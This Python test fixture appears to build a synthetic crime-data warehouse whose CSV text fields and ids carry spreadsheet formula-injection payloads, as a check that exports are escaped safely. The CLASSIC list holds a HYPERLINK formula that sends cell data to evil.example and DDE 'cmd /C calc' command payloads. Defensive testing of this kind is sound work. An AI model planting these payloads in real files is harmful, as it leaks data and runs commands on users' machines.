"""A small warehouse built through the real loaders from an extract whose text fields are hostile.

``synth`` writes a small synthetic London in the contract's CSV format; every free-text field
(offence description, borough, crime reference, names, postcode) is replaced by a spreadsheet
formula payload and every id (event_id, mention_id) gets a formula character in front, so the
hostile text reaches every table an export reads: ids in links and networks, boroughs and
offences in lists, rejected values in quarantine. Then the pipeline runs as a user would run it:
``ingest``, ``link``, ``harm apply``, a registered model (the rank tests' transparent stand-in),
``rank`` and ``victims``.
"""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

from typer.testing import CliRunner

from harmlens.cli import app as cli

CUT = "2025-01-01"
# The classic payloads (OWASP's list) and one per formula character the writer knows about.
CLASSIC = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click me")',
    '+cmd|" /C calc"!A0',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]
ID_LEADS = "=+-@"
TEXT_FIELDS = {"events": ["offence_description", "borough", "crime_ref"], "people": ["forename", "surname", "postcode"]}
runner = CliRunner()


def run(*args: str, ok: bool = True) -> str:
    r = runner.invoke(cli, list(args))
    if ok:
        assert r.exit_code == 0, f"harmlens {' '.join(args)} -> {r.exit_code}: {r.output[-2000:]} {r.exception!r}"
    return r.stdout


def _rewrite(path: Path, fn) -> None:
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    cols = list(rows[0].keys())
    for i, r in enumerate(rows):
        fn(i, r)
    # the extract is the attacker's file: written plainly, on purpose not through csvsafe
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=cols)
        w.writeheader()
        w.writerows(rows)


def hostile_extract(src: Path, dest: Path, payloads: list[str]) -> None:
    """Copy the synth extract ``src`` to ``dest`` with hostile text in every text field and id."""
    shutil.copytree(src, dest)
    k = len(payloads)

    def events(i, r):
        for j, c in enumerate(TEXT_FIELDS["events"]):
            if r.get(c):
                r[c] = payloads[(i + j) % k] + r[c]
        r["event_id"] = ID_LEADS[i % 4] + r["event_id"]

    eid_lead: dict[str, str] = {}
    with (src / "events.csv").open(newline="", encoding="utf-8") as fh:
        for i, r in enumerate(csv.DictReader(fh)):
            eid_lead[r["event_id"]] = ID_LEADS[i % 4]

    def people(i, r):
        for j, c in enumerate(TEXT_FIELDS["people"]):
            if r.get(c):
                r[c] = payloads[(i + j) % k] + r[c]
        r["mention_id"] = ID_LEADS[(i + 1) % 4] + r["mention_id"]
        r["event_id"] = eid_lead.get(r["event_id"], "") + r["event_id"]
        if i % 7 == 0 and r.get("relationship_to_suspect"):
            r["relationship_to_suspect"] = payloads[i % k]  # refused: reaches the quarantine export

    _rewrite(dest / "events.csv", events)
    _rewrite(dest / "people.csv", people)


def build(root: Path, synth_dir: Path, payloads: list[str]) -> Path:
    """Ingest the hostile extract and run the pipeline; returns the warehouse path."""
    from harmlens.warehouse import connect
    from tests.rank.helpers import register_model

    ex = root / "extract"
    hostile_extract(synth_dir, ex, payloads)
    db = str(root / "wh.duckdb")
    run("ingest", str(ex), "--db", db)
    run("link", "--db", db)
    run("harm", "apply", "--db", db)
    con = connect(Path(db))
    try:
        version = register_model(con, root / "models", severity=50.0)
    finally:
        con.close()
    run("models", "promote", version, "--db", db)
    run("rank", "--as-of", CUT, "--force", "--top", "50", "--db", db)  # the extract is cut at CUT: the day after its last event
    run("rank", "--as-of", "2024-07-01", "--top", "50", "--db", db)  # an earlier list, so 'changes' has rows
    run("victims", "--as-of", CUT, "--top", "50", "--db", db)
    return Path(db)


def synth(dest: Path, people: int = 1500) -> Path:
    run("synth", "--people", str(people), "--out", str(dest), "--format", "csv", "--cut-date", CUT, "--history-years", "3")
    return dest
